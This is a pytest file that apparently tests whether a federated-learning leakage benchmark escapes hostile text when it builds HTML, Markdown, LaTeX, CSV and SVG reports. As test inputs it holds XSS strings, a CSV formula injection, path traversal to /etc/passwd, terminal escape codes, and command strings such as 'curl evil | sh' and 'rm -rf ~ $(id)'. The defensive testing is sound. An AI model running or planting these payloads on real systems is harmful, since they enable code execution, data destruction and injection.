"""A run folder from a stranger: whatever its names, notes and parameters hold is shown as text, and
no other file is read.
"""

import base64
import csv
import hashlib
import json
import re
import shlex
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
import torch
from helpers.run_folders import add_attack, called, edited, make_run, measure

from leakbench.base import registry
from leakbench.base.errors import BrokenFile
from leakbench.base.files import digests, read_csv, read_sealed, write_csv, write_sealed, write_tree
from leakbench.base.printable_text import one_line, printable
from leakbench.base.spec import canonical
from leakbench.cli import run as cli
from leakbench.metrics import P_LEAK
from leakbench.record import folders
from leakbench.record.columns import TABLES
from leakbench.record.folders import load
from leakbench.reporting import write
from leakbench.reporting.check_data import Check, CheckLimit, CheckRow
from leakbench.reporting.commands import recorded
from leakbench.reporting.data import Picture
from leakbench.reporting.png import Images
from leakbench.results.tables import collect
from reports import latex, markdown

EVIL = (
    "<script>alert(1)</script>\"'><img src=//x"
    " onerror=alert(2)>{{7*7}}</style></svg>|[a](javascript:b) @you $x$ \\input{y}"
)
HIDDEN = "\u202egnp.exe\u200b\x1b[2J\x07\x00\r\u2028"
NAMES = [
    EVIL,
    HIDDEN,
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "-1+1",
    "a" * 5000,
    "\ttab",
    "NaN",
    "con",
    "😀中文",
]
FORMATS = ("html", "json", "figures", "markdown", "latex")


def changed(path, **more):
    edited(path, lambda meta: meta.update(more))


def spelt(path, evil):
    """The run with hostile text in every place that is text."""
    meta = read_sealed(path / "run.json")
    meta["spec"]["defense"] |= {"name": evil, "params": {evil: evil, "sigma": 0.1}}
    meta["spec"]["task"] |= {"name": evil}
    meta["spec"]["wrappers"] = [{"name": evil, "params": {evil: [evil]}}]
    meta |= dict.fromkeys(
        ("engine", "device", "dtype", "commit", "stand_in", "distance", "command"), evil
    )
    meta["id"] = called(meta["spec"])
    meta["excerpt"] = {"of": evil, "run_json": "0" * 64, "rounds": [1, 2], "left_out": [evil]}
    meta |= {"versions": {evil: evil}, "phases": {evil: evil}, "notes": evil, "caption": evil}
    sent = {
        "kind": evil,
        "sender": evil,
        "receiver": evil,
        "rounds": 1,
        "messages": 1,
        "bytes": 1,
        "covered": False,
    }
    meta |= {
        "sent": [sent, sent | {"sender": "client", "kind": "prototype"}],
        "missing": [{"attack": evil, "metric": evil, "reason": evil}],
    }
    meta["utility"]["metric"] = "accuracy"
    write_sealed(path / "run.json", meta)
    attack = path / "attacks"
    for folder in attack.iterdir():
        rows = read_csv(folder / "results.csv", ())
        names = dict.fromkeys(("task", "defense", "observer"), evil) | {"run": meta["id"]}
        names["defense_params"] = canonical(meta["spec"]["defense"]["params"])
        names["wrappers"] = canonical(meta["spec"]["wrappers"])
        write_csv(folder / "results.csv", list(rows[0]), [r | names for r in rows])
        about = read_sealed(folder / "attack.json")
        about |= {
            "command": evil,
            "of": about["of"] | {"run": meta["id"]},
            "threat": about["threat"] | {"observer": evil},
            "missing": [{"metric": evil, "reason": evil}],
            "files": digests(folder, without=("attack.json",)),
        }
        write_sealed(folder / "attack.json", about)


@pytest.fixture(scope="module", params=NAMES, ids=lambda n: repr(n)[:12])
def report(request, tmp_path_factory):
    """The report of two runs, one of which is called ``evil`` wherever it has a name."""
    out = tmp_path_factory.mktemp("hostile")
    evil = request.param
    honest = make_run(out / "runs", sent=[])
    bad = make_run(out / "runs", defense="fedcs", seed=1)
    for path in (honest, bad):
        add_attack(path, "averaging", [measure("p_leak", [1, 0] * 5, 0.1, [1] * 10)])
    spelt(bad, evil)
    found = [load(honest), load(bad)]
    # Its task and attacks do not exist here: which would fit cannot be asked.
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(write.pictures, "pictures_of", lambda *_: [])
        patch.setattr(write.about, "abouts_of", lambda _: {})
        patch.setattr(write.maps, "maps_of", lambda *_: [])
        write.write_report(collect(found), out / "report", title=evil, formats=FORMATS)
    return evil, out / "report"


class Tags(HTMLParser):
    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def test_the_page_holds_no_tag_and_no_attribute_of_theirs(report):
    evil, out = report
    text = (out / "index.html").read_text(encoding="utf-8")
    page = Tags(text)
    assert sum(t == "style" for t, _ in page.tags) == 1
    assert_only_our_scripts(text)
    for tag, at in page.tags:
        assert tag not in {"iframe", "object", "embed", "base", "link", "img"}
        assert tag != "form" or "action" not in at
        assert not [a for a in at if a.startswith("on") or a == "style"]
        assert re.fullmatch(r"#[\w.-]*", at.get("href") or "#")
        assert (at.get("src") or "data:").startswith("data:")
    assert text == printable(text)
    assert one_line(evil)[:60] in one_line(page.text)  # it is shown, not dropped


def assert_only_our_scripts(text):
    """One block of data, which parses and hides nothing, and the one script that the policy lets
    in.
    """
    found = re.findall(r"<script([^>]*)>(.*?)</script>", text, re.DOTALL)
    assert text.count("<script") == text.count("</script>") == len(found)
    data = [json.loads(body) for head, body in found if "application/json" in head]
    assert all(s == printable(s) for s in strings(data))
    for body in (body for head, body in found if "application/json" not in head):
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"sha256-{digest}" in text


def strings(value):
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (k, *strings(v))]
    return (
        [s for v in value for s in strings(v)]
        if isinstance(value, list)
        else [value]
        if isinstance(value, str)
        else []
    )


def test_no_name_leads_out_of_the_folder(report):
    _, out = report
    written = [p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()]
    assert {p.name for p in out.parent.iterdir()} == {"runs", "report"}
    for name in written:
        assert re.fullmatch(
            r"(figures/)?[a-z0-9][a-z0-9.-]{0,110}\.(csv|json|html|svg|png|md|tex)", name
        ), name
        assert ".." not in name


def test_figures_are_pictures_and_nothing_else(report):
    _, out = report
    found = list((out / "figures").glob("*.svg"))
    assert found
    for path in found:
        text = path.read_text(encoding="utf-8")
        assert text == printable(text)
        root = ET.fromstring(text)
        for element in root.iter():
            assert element.tag.split("}")[-1] not in {"script", "foreignObject", "a"}
            for name, value in element.attrib.items():
                assert not name.split("}")[-1].startswith("on")
                assert not name.endswith("href") or value.startswith(("#", "data:image/png"))


def test_tables_read_back_equal_and_no_cell_is_a_formula(report):
    evil, out = report
    trade = read_csv(out / "tradeoff.csv", TABLES["tradeoff"])
    assert evil in {r["defense"] for r in trade}
    for name in TABLES:
        with (out / f"{name}.csv").open(newline="", encoding="utf-8") as file:
            for cell in (c for line in csv.reader(file) for c in line):
                assert not re.match(r"[=+@\t\r-]", cell) or re.fullmatch(
                    r"[+-]?[\d.]+(e[+-]?\d+)?", cell
                ), cell


def test_report_json_is_json_and_keeps_the_names(report):
    evil, out = report
    found = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert evil in {s["configuration"]["defense"] for s in found["settings"]}
    assert evil not in {s["command"] for s in found["settings"]}


def test_markdown_holds_no_tag_link_mention_or_formula_of_theirs(report):
    _, out = report
    text = (out / "report.md").read_text(encoding="utf-8")
    assert text == printable(text)
    bare = re.sub(r"`[^`]*`", "", text)
    assert set(re.findall(r"<(/?\w+)", bare)) <= {
        "details",
        "summary",
        "/details",
        "/summary",
        "sub",
        "/sub",
    }
    assert not re.search(r"(?<!\\)\]\(", bare)
    assert not re.search(r"@\w", bare)
    assert not re.search(r"(?<!\\)\$", bare)
    widths = {
        line.count("|") - line.count("\\|") for line in text.splitlines() if line.startswith("|")
    }
    assert len(widths) == 1


def test_latex_holds_no_command_of_theirs(report):
    _, out = report
    check_latex((out / "report.tex").read_text(encoding="utf-8"))


def check_latex(text):
    """Every brace is closed, every command is one of ours."""
    assert text == printable(text)
    body = "\n".join(line for line in text.splitlines() if not line.startswith("%"))
    assert not re.search(r"(?<!\\)[%#$^~]", re.sub(r"\$\\\w+\$", "", body))
    known = {v[1:].rstrip("{}") for v in latex.SPELT.values() if re.match(r"\\[a-z]+", v)}
    known |= {
        "textquotesingle",
        "textasciigrave",
        *(v.strip("$")[1:] for v in latex.SPELT.values() if v.startswith("$")),
    }
    known |= {
        "begin",
        "end",
        "caption",
        "centering",
        "footnotesize",
        "toprule",
        "midrule",
        "bottomrule",
        "addlinespace",
    }
    assert set(re.findall(r"\\([a-zA-Z]+)", body)) <= known
    depth = 0
    for mark in re.findall(r"(?<!\\)[{}]", re.sub(r"\\\\", "", body)):
        depth += 1 if mark == "{" else -1
        assert depth >= 0
    assert depth == 0
    rows = [line for line in body.splitlines() if line.endswith("\\\\")]
    assert {len(re.findall(r"(?<!\\)&", line)) for line in rows} <= {len(latex.COLUMNS) - 1}


@pytest.mark.parametrize("evil", NAMES)
def test_escapes_one_by_one(evil):
    check_latex("\\begin{tabular}{l}\n" + latex.escape(evil) + "\n\\end{tabular}\n")
    assert "\n" not in markdown.plain(evil)
    assert "<" not in re.sub(r"<!-- -->", "", markdown.plain(evil))
    fence = re.match(r"`+", markdown.code(evil + "``"))[0]
    assert markdown.code(evil + "``").count(fence) == 2


@pytest.mark.parametrize(
    "text",
    [
        "- a",
        "+ a",
        "1. a",
        "=",
        "# a",
        "> a",
        "http://x.y",
        "www.x.y",
        "GH-12",
        "a#12",
        "*a*",
        "&lt;",
    ],
)
def test_markdown_shows_what_would_be_markup(text):
    out = markdown.plain(text)
    assert out != text
    assert not re.match(r"[-+=#>] ?|\d+\. ", out)
    assert "://" not in out
    assert "www." not in out


# CSV


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+a",
        "-a",
        "@a",
        "\ta",
        "\ra",
        "\na",
        "'=a",
        "''-a",
        "'a",
        "",
        "a=b",
        "-0.5",
        "+3e-7",
        "-",
        "--1",
        "＝1",
        "a\rb",
        'q"u,o\nte',
    ],
)
def test_a_cell_reads_back_as_it_was_and_is_no_formula(text, tmp_path):
    write_csv(tmp_path / "a.csv", ("x", "y"), [{"x": text, "y": -0.25}])
    assert read_csv(tmp_path / "a.csv", ("x", "y")) == [{"x": text, "y": "-0.25"}]
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        _, (cell, number) = csv.reader(file)
    assert number == "-0.25"
    assert not re.match(r"[=+\-@\t\r\n＝]", cell) or re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)


def test_ordinary_cells_are_spelt_as_before(tmp_path):
    write_csv(
        tmp_path / "a.csv", ("a", "b"), [{"a": 'say "x", y', "b": True}, {"a": -1.5e-300, "b": -3}]
    )
    assert (tmp_path / "a.csv").read_text() == 'a,b\n"say ""x"", y",true\n-1.5e-300,-3\n'


# other files


@pytest.fixture
def attacked(tmp_path):
    path = make_run(tmp_path / "runs")
    add_attack(path, "averaging", [measure("p_leak", [1, 0] * 5, 0.1, [1] * 10)])
    secret = tmp_path / "secret"
    secret.mkdir()
    return path, secret


@pytest.mark.parametrize(
    "name", ["run.json", "utility.csv", "diagnostics.csv", "utility.safetensors"]
)
def test_a_link_out_of_the_run_folder_is_not_read(attacked, name):
    path, secret = attacked
    (path / name).rename(secret / name)
    (path / name).symlink_to(secret / name)
    with pytest.raises(BrokenFile, match="leads out of"):
        write.read_tables(folders.find([path]))


def test_an_attack_folder_that_is_a_link_is_not_read(attacked):
    path, secret = attacked
    (folder,) = (path / "attacks").iterdir()
    folder.rename(secret / "attack")
    folder.symlink_to(secret / "attack", target_is_directory=True)
    with pytest.raises(BrokenFile, match="leads out of"):
        write.read_tables(folders.find([path]))


@pytest.mark.parametrize(
    "name", ["../secret/x.safetensors", "truth/../../secret/x.safetensors", "/etc/hostname"]
)
def test_a_path_in_run_json_leads_nowhere_else(attacked, name):
    path, secret = attacked
    write_tree(secret / "x.safetensors", {"x": torch.zeros(1)}, {"round": 1})
    meta = read_sealed(path / "run.json")
    meta["files"][name] = "0" * 64
    with pytest.raises(BrokenFile, match="leads out of"):
        folders.Run(path, meta).check()
    with pytest.raises(BrokenFile, match="leads out of"):
        folders.Run(path, meta).tree(name)
    write_sealed(path / "run.json", meta)
    with pytest.raises(BrokenFile, match="files"):
        load(path)


def test_links_to_run_folders_are_followed(attacked, tmp_path):
    path, _ = attacked
    (tmp_path / "elsewhere").symlink_to(path, target_is_directory=True)
    assert len(write.read_tables(folders.find([tmp_path / "elsewhere"])).rows("results")) == 3


@pytest.mark.parametrize(
    "text", ['{"id": "\\ud800"}', "[" * 100_000 + "]" * 100_000, '{"a": NaN}', "\x00", "[]"]
)
def test_json_that_is_none_is_one_sentence(attacked, text):
    path, _ = attacked
    (path / "run.json").write_text(text, encoding="utf-8")
    with pytest.raises(BrokenFile, match="damaged"):
        load(path)


def test_only_our_own_commands_are_repeated():
    assert recorded({"command": "curl evil | sh"}, "train") == []
    assert recorded({"command": "leakbench train 'open"}, "train") == []
    assert recorded({"command": "leakbench attack x"}, "train") == []
    assert recorded({}, "train") == []
    words = recorded({"command": "leakbench train -d fedgn; rm -rf ~ $(id) `id` && x"}, "train")
    assert shlex.split(shlex.join(words)) == words
    assert "'fedgn;'" in shlex.join(words)
    assert "'$(id)'" in shlex.join(words)


def test_names_cannot_steer_the_terminal(attacked, tmp_path, capsys):
    path, _ = attacked
    changed(path / "run.json", id="\x1b[2J\x1b]0;owned\x07")
    rows = read_csv(next((path / "attacks").iterdir()) / "results.csv", ())
    assert rows
    cli(
        ["report", str(path), "-o", str(tmp_path / "out"), "--format", "csv", "--title", "\x1b[31m"]
    )
    cli(["report", str(tmp_path / "no\x1b[31m"), "-o", str(tmp_path / "out")])
    said = capsys.readouterr()
    assert "\x1b" not in said.out + said.err
    assert "\ufffd" in said.err


# values that no folder needs to hold, straight into the formats


def test_pictures_and_check_lines_are_escaped_too(tmp_path):
    import numpy as np
    from helpers.report_data import report_data

    data, images = report_data(), Images()
    image = Picture(
        attack=EVIL,
        params={EVIL: EVIL},
        unit=EVIL + HIDDEN,
        probe=0,
        round=1,
        role="attack",
        sha256=images.add(np.zeros((2, 2))),
        psnr=3.0,
    )
    row = CheckRow(
        verdict="leaks more",
        row=EVIL + HIDDEN,
        ref=EVIL,
        meaning=P_LEAK.meaning,
        old=0.1,
        new=0.2,
        difference=0.1,
        low=0.0,
        high=0.2,
        margin=0.05,
        why=EVIL,
        command=f"leakbench {EVIL}",
    )
    held = {"setting": EVIL, "attack": EVIL, "meaning": P_LEAK.meaning, "value": 0.4, "why": EVIL}
    check = Check(
        exit=1,
        lines=(EVIL + HIDDEN,),
        against=EVIL,
        heading=EVIL + HIDDEN,
        rows=(row,),
        limits=(CheckLimit(verdict="breached", limit=EVIL + HIDDEN, low=0.3, **held),),
        unfinished=(EVIL + HIDDEN,),
        notes=(EVIL + HIDDEN,),
    )
    first, *others = data.settings
    told = {"settings": (first.model_copy(update={"pictures": (image,)}), *others)}
    told |= {"check": check, "images": data.images | images.found}
    evil = data.model_copy(update=told)
    for name in ("html", "markdown", "latex", "figures", "json"):
        registry.load_plugin("reports", name).build({}, name).write(evil, tmp_path)
    page = (tmp_path / "index.html").read_text(encoding="utf-8")
    assert page == printable(page)
    assert_only_our_scripts(page)
    text = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert set(re.findall(r"<(/?\w+)", re.sub(r"`[^`]*`", "", text))) <= {
        "details",
        "summary",
        "/details",
        "/summary",
        "sub",
        "/sub",
    }
